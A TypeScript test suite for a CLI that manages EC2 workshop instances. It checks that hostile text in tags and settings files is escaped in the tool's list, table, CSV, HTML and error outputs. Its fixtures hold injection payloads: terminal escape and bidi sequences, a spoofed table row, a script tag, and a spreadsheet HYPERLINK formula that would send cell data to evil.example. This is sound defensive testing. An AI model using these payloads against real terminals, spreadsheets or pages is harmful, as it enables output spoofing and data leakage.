// Fault suite: hostile text. Anyone who may tag an instance can put escape sequences, a
// newline, a carriage return and a bidi override in its Name (or another tag), and a settings
// file can hold the same in its instructions. Through the real binary, the list, the
// interactive destroy table (in a pseudo-terminal), the hand-out as text, CSV and HTML,
// `workshop show` and an error line must show such text, never pass it to the terminal: no raw
// control character in the output, and exactly as many table rows as there are instances (no
// spoofed row). --json keeps the exact values. Nothing foreign is touched.
import { CreateTagsCommand } from "@aws-sdk/client-ec2";
import { expect } from "chai";
import { TAG } from "../../src/instances/tags.js";
import { isolatedEnv, runBin } from "../helpers/cli.js";
import { PtySession, requirePty } from "../helpers/pty.js";
import { ec2For } from "../helpers/sim.js";
import { makeWorkshopHome } from "../helpers/workshop-home.js";
import { WORKSHOP, type CliRun, type ListedRow, type Scenario } from "./harness.js";
import { expectNothingForeignTouched, fromJson } from "./invariants.js";
import { scenarioPerTest, verifyAndCleanUp } from "./flow.js";

/** Clears the screen, homes the cursor, sets the window title, then a new line that looks like a table row. */
const SPOOF_ROW = "  9     9  i-0deadbeefdeadbeef  payroll  198.51.100.66  Mon, Jan 11 14:05  running  2/2 ok";
const NAME = `evil\u001b[2J\u001b[H\u001b]0;pwned\u0007\r\n${SPOOF_ROW}\u009b31m\u007f\u202eexe.txt\u2066`;
const BATCH = "zz\u001b[31m\n1 1 i-0fake\r";
const INSTRUCTIONS =
  `=HYPERLINK("http://evil.example/?"&A1)\r\n` +
  `ssh student@{address}  # seat {seat}, {name}\r\n` +
  `\u001b[2J\u001b]0;pwned\u0007<script>alert(1)</script>\rPassword: hunter2\u202e\n` +
  `\u009b1;1H\ttab stays`;
/** The instructions' lines as shown (CRLF and LF end a line; the lone CR does not). */
const INSTRUCTION_LINES = 4;

/** Anything that acts on a terminal, or hides or reorders text (line feeds are checked by counting lines). */
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
/** The payload's own sequences: none may reach a terminal, whose output also holds the tool's own colours and readline's. */
const PAYLOAD = ["\u001b[2J", "\u001b[H", "\u001b]0;", "\u0007", "\u009b", "\u007f", "\u202e", "\u2066", "\u001b[31m\n"];

function expectNoRaw(label: string, text: string): void {
  const at = RAW.exec(text);
  expect(at, `${label}: raw U+${at?.[0].charCodeAt(0).toString(16).padStart(4, "0")} in\n${text}`).to.equal(null);
}

function ok(label: string, r: CliRun): CliRun {
  expect(r.code, `${label}: ${r.stderr}`).to.equal(0);
  expectNoRaw(`${label} stdout`, r.stdout);
  expectNoRaw(`${label} stderr`, r.stderr);
  return r;
}

/** Table rows: lines that start with a row number, a seat and an instance id. */
const tableRows = (text: string): string[] => text.split("\n").filter((l) => /^\s*\d+\s+(\d+|-)\s+i-[0-9a-f]+/.test(l));

/** RFC 4180 records (quoted fields may hold line breaks and doubled quotes). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || c === "\n") {
      record.push(field);
      field = "";
      if (c === "\n") {
        records.push(record);
        record = [];
      }
    } else field += c;
  }
  return records;
}

async function tag(sc: Scenario, id: string, tags: Record<string, string>): Promise<void> {
  const ec2 = ec2For(sc.sim);
  try {
    await ec2.send(new CreateTagsCommand({ Resources: [id], Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) }));
  } finally {
    ec2.destroy();
  }
}

describe("fault suite: escape sequences, newlines and bidi overrides in tags and settings", function () {
  this.timeout(120_000);
  const start = scenarioPerTest();

  it("hostile text: list, destroy table, hand-out (text, csv, html), workshop show and an error line show it visibly, one row per instance", async function () {
    requirePty(this);
    const sc = await start({ seed: 1607, instructions: INSTRUCTIONS });
    const c = await sc.create(["--count", "3", "--json"]);
    const createdUntil = sc.mark();
    expect(c.code, c.stderr).to.equal(0);
    const run = fromJson("create", 3, c.stdout);
    const [first, second] = [...sc.launched()].sort((a, b) => a.amiLaunchIndex - b.amiLaunchIndex);
    const original = { name: first!.tags[TAG.name]!, batch: second!.tags[TAG.batch]! };
    // Over the real API, as anyone allowed to tag would.
    await tag(sc, first!.instanceId, { Name: NAME });
    await tag(sc, second!.instanceId, { [TAG.batch]: BATCH, Team: "\u001b[8mhidden" });

    // --json: the exact values, escaped only as JSON escapes them.
    const json = JSON.parse(ok("list --json", await sc.cli(["instances", "list", "--workshop", WORKSHOP, "--json"])).stdout) as (ListedRow & { name: string })[];
    expect(json.find((r) => r.instanceId === first!.instanceId)!.name).to.equal(NAME);
    expect(json.find((r) => r.instanceId === second!.instanceId)!.batch).to.equal(BATCH);

    // The list: three rows, the Name shown escaped on its own row.
    const list = ok("list", await sc.cli(["instances", "list", "--workshop", WORKSHOP]));
    const rows = tableRows(list.stdout);
    expect(rows, list.stdout).to.have.length(3);
    expect(rows.find((r) => r.includes(first!.instanceId))).to.include(`evil\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\r\\n${SPOOF_ROW}\\x9b31m\\x7f\\u202eexe.txt\\u2066`);
    expect(rows.find((r) => r.includes(second!.instanceId))).to.include("zz\\x1b[31m");

    // The hand-out as text: a row per seat, and each seat's instructions in exactly their lines.
    const text = ok("handout text", await sc.cli(["instances", "handout", "--workshop", WORKSHOP]));
    expect(text.stdout.split("\n").filter((l) => /^\s+\d+\s+\d+\.\d+\.\d+\.\d+\s+fault-lab-\d+/.test(l)), text.stdout).to.have.length(3);
    const blocks = text.stdout.split(/^ {2}Seat \d+ .*$/m).slice(1);
    expect(blocks, text.stdout).to.have.length(3);
    for (const b of blocks) expect(b.trim().split("\n"), b).to.have.length(INSTRUCTION_LINES);
    expect(text.stdout).to.include("    \\x1b[2J\\x1b]0;pwned\\x07<script>alert(1)</script>\\rPassword: hunter2\\u202e\n    \\x9b1;1H\ttab stays");

    // CSV: a header and three records of eight fields; the formula defused; the instructions one quoted field.
    const csv = ok("handout csv", await sc.cli(["instances", "handout", "--workshop", WORKSHOP, "--format", "csv"]));
    const records = csvRecords(csv.stdout);
    expect(records, csv.stdout).to.have.length(4);
    for (const r of records) expect(r, csv.stdout).to.have.length(8);
    for (const r of records.slice(1)) {
      expect(r[7]!.startsWith(`'=HYPERLINK("http://evil.example/?"&A1)\nssh student@`), r[7]).to.equal(true);
      expect(r[7]!.split("\n")).to.have.length(INSTRUCTION_LINES);
    }

    // HTML: three cards, markup escaped as HTML and control characters visible.
    const html = ok("handout html", await sc.cli(["instances", "handout", "--workshop", WORKSHOP, "--format", "html"]));
    expect(html.stdout.match(/<article class="card"/g)).to.have.length(3);
    expect(html.stdout).not.to.include("<script>");
    expect(html.stdout).to.include("\\x1b]0;pwned\\x07&lt;script&gt;alert(1)&lt;/script&gt;\\rPassword: hunter2\\u202e");

    // workshop show: the instructions from the settings file, each line indented under its heading.
    const show = ok("workshop show", await sc.cli(["workshop", "show", WORKSHOP]));
    const shown = show.stdout.split("\n");
    const from = shown.indexOf("  instructions") + 1;
    expect(from, show.stdout).to.be.greaterThan(0);
    expect(shown.slice(from, from + INSTRUCTION_LINES + 1).map((l) => l.startsWith("    ")), show.stdout).to.deep.equal([...Array(INSTRUCTION_LINES).fill(true), false]);

    // The interactive destroy table in a terminal: three rows, the payload never raw; a row
    // selected shows alone under the warning; answered no and quit, nothing is terminated.
    const pty = new PtySession(["instances", "destroy", "--workshop", WORKSHOP], { env: sc.env({ TZ: "UTC" }), cols: 200 });
    try {
      const table = await pty.waitFor(/› $/m);
      expect(tableRows(table), table).to.have.length(3);
      expect(table).to.include("evil\\x1b[2J");
      const firstRow = tableRows(table).find((r) => r.includes(first!.instanceId))!.trim().split(/\s+/)[0]!;
      pty.line(firstRow);
      const selection = await pty.waitFor(/\[y\/n\/q\] $/m);
      expect(tableRows(selection), selection).to.have.length(1);
      pty.line("n");
      await pty.waitFor(/› $/m);
      pty.line("q");
      expect(await pty.exit()).to.equal(0);
      for (const p of PAYLOAD) expect(pty.rawOutput.includes(p), `raw ${JSON.stringify(p)} on the terminal`).to.equal(false);
    } finally {
      pty.kill();
    }
    expect(sc.launched().map((i) => i.state)).to.deep.equal(["running", "running", "running"]);

    // The shared invariants check the launch tags: put back what the attacker changed.
    await tag(sc, first!.instanceId, { Name: original.name });
    await tag(sc, second!.instanceId, { [TAG.batch]: original.batch });
    expectNothingForeignTouched(sc);
    await verifyAndCleanUp(sc, { scenario: "hostile text", runs: [run], createdUntil, outcome: "Name, batch tag and instructions shown escaped by 6 outputs; 3 rows each" });
  });

  it("an error line that quotes a value from a settings file stays one visible line", async () => {
    const home = makeWorkshopHome([{ name: "far", region: `us-east-1\u001b]0;pwned\u0007\r\nError: spoofed\u202e` }]);
    try {
      const env = isolatedEnv({ EC2_WORKSHOP_HOME: home.dir, AWS_ACCESS_KEY_ID: "AKIAIOSFODNN7EXAMPLE", AWS_SECRET_ACCESS_KEY: "dummy" });
      for (const argv of [["instances", "list", "--workshop", "far"], ["workshop", "show", "far"]]) {
        const r = await runBin(argv, { env });
        expect(r.code, r.stderr).to.be.oneOf([1, 2]);
        expectNoRaw(`${argv.join(" ")} stderr`, r.stderr);
        expect(r.stderr.trimEnd().split("\n"), r.stderr).to.have.length(1);
        expect(r.stderr).to.include("us-east-1\\x1b]0;pwned\\x07\\r\\nError: spoofed\\u202e");
      }
    } finally {
      home.remove();
    }
  });
});
